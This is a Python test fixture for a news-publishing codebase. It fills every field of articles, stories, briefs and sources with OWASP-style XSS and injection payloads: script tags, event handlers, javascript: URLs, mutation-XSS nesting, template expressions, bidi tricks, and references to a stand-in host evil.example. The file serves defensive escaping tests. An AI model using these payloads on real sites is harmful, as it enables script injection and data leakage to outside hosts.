"""A corpus of markup, scripts and tricks, and a press in which every field is one of them.

Collected from the kinds that OWASP's filter evasion list names; each tells on itself by `pwned` or by asking another host.
"""

from __future__ import annotations

from tests.publish.press import NOW, Press

from newsworld.news.articles import Article, Dateline
from newsworld.news.briefs import SECTIONS, Brief, Citation, Line, Section
from newsworld.news.sourcing import Outlet, Source, SourceHealth
from newsworld.news.spans import Span
from newsworld.news.stories import Member, Story, Topic

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "<img src=x onerror=window.pwned=3>",
    "<svg onload=window.pwned=4><animate onbegin=window.pwned=4>",
    '"><details open ontoggle=window.pwned=5>',
    "' onfocus=window.pwned=6 autofocus x='",
    '" onmouseover=window.pwned=7 style=position:fixed;inset:0 "',
    "javascript:window.pwned=8",
    "<a href=javascript:window.pwned=9>x</a>",
    "<iframe srcdoc='<script>parent.pwned=10</script>'></iframe>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example><button name=act value=all>x",
    "<img src=https://evil.example/pixel>",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${window.pwned=17}",
    "<!--<script>-->window.pwned=18//",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=19>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=20>",
    "\u202e\u2066evil\u2069 <b>bidi</b>",
    "{day:2031-03-09}<script>window.pwned=22</script>{word:<script>}",
    "&lt;script&gt;window.pwned=23&lt;/script&gt;",
    "\u2028window.pwned=24//\u2029",
    "x" * 3000,
)


def poisoned() -> Press:
    """One story a payload; each field of it is the payload."""
    articles = {f"a{n}": _article(n, text) for n, text in enumerate(PAYLOADS)}
    return Press(
        articles,
        tuple(_story(n, text) for n, text in enumerate(PAYLOADS)),
        tuple(_brief(n, text) for n, text in enumerate(PAYLOADS)),
        (),
        tuple(Outlet(f"o{n}", text, text, text, "en", text) for n, text in enumerate(PAYLOADS)),
        tuple(Source(f"s{n}", "feed", text, f"o{n}", text, text) for n, text in enumerate(PAYLOADS)),
        tuple(SourceHealth(f"s{n}", text, error=text) for n, text in enumerate(PAYLOADS)),
    )


def _article(n: int, text: str) -> Article:
    return Article(
        id=f"a{n}", text=f"{text} before\n\n{text}\n\nafter {text}", url=text, canonical_url=text, outlet=text,
        language=text[:8], headline=text, standfirst=text, byline=(text,), credit=text, dateline=Dateline(text),
        published="2031-03-09T10:00:00+00:00", version=2,
    )  # fmt: skip


def _story(n: int, text: str) -> Story:
    topics = (Topic(text, text), Topic(f"place:{text}", text, "place"))
    return Story(f"p{n}", text, NOW, NOW, (Member(f"a{n}", None, (text,)),), 1, topics)


def _brief(n: int, text: str) -> Brief:
    cites = (Citation(f"a{n}", Span(0, len(text)), text),)
    names = (
        "speaker", "role", "party", "terms", "setting", "told_by", "issue", "condition", "stance", "place", "parties",
        "participants", "agenda", "name", "format", "part_of_day", "kind", "of", "low", "high", "unit", "outlet", "copies",
        "published", "url", "day", "headline", "story",
    )  # fmt: skip
    slots = dict.fromkeys(names, text) | {"start": "2031-03-10", "moved_from": text, "said_on": text, "when": text}

    def line(**more: str) -> Line:
        return Line(f"{text} – {text}", "composed", cites, (text,), {**slots, **more})

    sections = tuple(
        Section(
            name,
            (
                line(),
                line(anonymous="yes"),
                line(status=text, mode="direct", start=text),
                Line(text, "verbatim", cites),
            ),
        )
        for name in SECTIONS
    )
    return Brief(f"p{n}", text, line(), (line(),), sections, language=text[:8], updated=NOW)
